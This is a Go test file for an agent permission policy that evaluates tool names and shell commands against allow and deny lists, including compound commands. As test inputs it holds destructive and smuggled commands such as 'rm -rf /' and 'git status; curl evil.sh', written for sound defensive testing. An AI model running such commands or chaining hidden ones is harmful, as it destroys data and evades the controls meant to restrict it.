package permission

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func list(items ...string) *[]string {
	return &items
}

func TestEvaluate_DenyFirst(t *testing.T) {
	p := Policy{
		ToolAllow: []string{"*"},
		ToolDeny:  []string{"apply_patch"},
	}

	d := p.Evaluate(ToolAttempt("apply_patch"))
	assert.False(t, d.Admit)
	assert.Equal(t, "apply_patch", d.Pattern)
	assert.Equal(t, ReasonDenyMatch, d.Reason)

	assert.True(t, p.Evaluate(ToolAttempt("shell")).Admit)
}

func TestEvaluate_AllowList(t *testing.T) {
	p := Policy{CommandAllow: []string{"cargo test -p app-*", "git status"}}

	tests := []struct {
		command string
		admit   bool
	}{
		{"cargo test -p app-core", true},
		{"git status", true},
		{"git push", false},
		{"cargo build", false},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			d := p.Evaluate(CommandAttempt(tt.command))
			assert.Equal(t, tt.admit, d.Admit)
			if !tt.admit {
				assert.Equal(t, ReasonNoAllowMatch, d.Reason)
			}
		})
	}
}

func TestEvaluate_EmptyPolicyAdmitsEverything(t *testing.T) {
	var p Policy
	assert.True(t, p.IsZero())
	assert.True(t, p.Evaluate(ToolAttempt("anything")).Admit)
	assert.True(t, p.Evaluate(CommandAttempt("rm -rf /")).Admit)
}

func TestEvaluate_KindsAreScoped(t *testing.T) {
	p := Policy{ToolDeny: []string{"rm*"}}
	assert.False(t, p.Evaluate(ToolAttempt("rmdir")).Admit)
	assert.True(t, p.Evaluate(CommandAttempt("rm -rf build")).Admit)
}

func TestEvaluate_CompoundCommand(t *testing.T) {
	p := Policy{CommandDeny: []string{"rm *"}}

	d := p.Evaluate(CommandAttempt("cd src && rm -rf build"))
	require.False(t, d.Admit)
	assert.Equal(t, "rm *", d.Pattern)
	assert.Equal(t, "rm -rf build", d.Segment)
	assert.Equal(t, "cd src && rm -rf build", d.Attempt.Subject)

	assert.True(t, p.Evaluate(CommandAttempt("cd src && ls")).Admit)
}

func TestEvaluate_CompoundCommandAgainstAllowList(t *testing.T) {
	p := Policy{CommandAllow: []string{"git *"}}

	// The whole line matches "git *" but the second segment does not.
	d := p.Evaluate(CommandAttempt("git status; curl evil.sh"))
	require.False(t, d.Admit)
	assert.Equal(t, ReasonNoAllowMatch, d.Reason)
	assert.Equal(t, "curl evil.sh", d.Segment)

	assert.True(t, p.Evaluate(CommandAttempt("git add . && git commit -m wip")).Admit)
}

func TestEvaluate_UnparseableCommandUsesRawLine(t *testing.T) {
	p := Policy{CommandDeny: []string{"echo '*"}}
	d := p.Evaluate(CommandAttempt("echo 'unterminated"))
	assert.False(t, d.Admit)
}

func TestArgvAttempt(t *testing.T) {
	a := ArgvAttempt([]string{"cargo", "test", "-p", "app-core"})
	assert.Equal(t, KindCommand, a.Kind)
	assert.Equal(t, "cargo test -p app-core", a.Subject)
}

func TestQualifiedToolName(t *testing.T) {
	assert.Equal(t, "search__query", QualifiedToolName("search", "query"))
	assert.Equal(t, "shell", QualifiedToolName("", "shell"))

	p := Policy{ToolDeny: []string{"search__*"}}
	assert.False(t, p.Evaluate(ToolAttempt(QualifiedToolName("search", "query"))).Admit)
}

func TestWith_ReplacesWholeLists(t *testing.T) {
	parent := Policy{
		ToolAllow:   []string{"shell", "read"},
		CommandDeny: []string{"rm *"},
	}

	child := parent.With(Override{ToolAllow: list("read")})
	assert.Equal(t, []string{"read"}, child.ToolAllow)
	assert.Equal(t, []string{"rm *"}, child.CommandDeny)

	cleared := parent.With(Override{CommandDeny: list()})
	assert.Empty(t, cleared.CommandDeny)
	assert.NotNil(t, cleared.CommandDeny)

	// The parent is not affected by changes to the child.
	child.CommandDeny[0] = "changed"
	assert.Equal(t, "rm *", parent.CommandDeny[0])
}

func TestWith_EmptyOverrideInherits(t *testing.T) {
	parent := Policy{ToolDeny: []string{"apply_patch"}}
	assert.True(t, Override{}.IsZero())
	assert.Equal(t, parent, parent.With(Override{}))
}

func TestOverride_JSON(t *testing.T) {
	var o Override
	require.NoError(t, json.Unmarshal([]byte(`{"tool_denylist":["apply_patch"],"shell_command_allowlist":[]}`), &o))

	require.NotNil(t, o.ToolDeny)
	assert.Equal(t, []string{"apply_patch"}, *o.ToolDeny)
	require.NotNil(t, o.CommandAllow)
	assert.Empty(t, *o.CommandAllow)
	assert.Nil(t, o.ToolAllow)
	assert.Nil(t, o.CommandDeny)

	err := json.Unmarshal([]byte(`{"tool_denylist":[1]}`), &o)
	assert.Error(t, err)
}

func TestValidate(t *testing.T) {
	assert.NoError(t, Policy{ToolDeny: []string{"", "*"}}.Validate())
	assert.Error(t, Policy{CommandDeny: []string{"rm\x00"}}.Validate())
	assert.Error(t, Policy{ToolAllow: []string{string([]byte{0xff})}}.Validate())
}

func TestDecisionErr(t *testing.T) {
	p := Policy{ToolDeny: []string{"apply_patch"}}
	err := p.Evaluate(ToolAttempt("apply_patch")).Err("agent-1")
	require.Error(t, err)
	assert.True(t, IsDenied(err))

	denied, ok := AsDenied(err)
	require.True(t, ok)
	assert.Equal(t, "agent-1", denied.AgentID)
	assert.Contains(t, err.Error(), `denied by pattern "apply_patch"`)

	assert.NoError(t, p.Evaluate(ToolAttempt("shell")).Err("agent-1"))
	assert.False(t, IsDenied(nil))
}
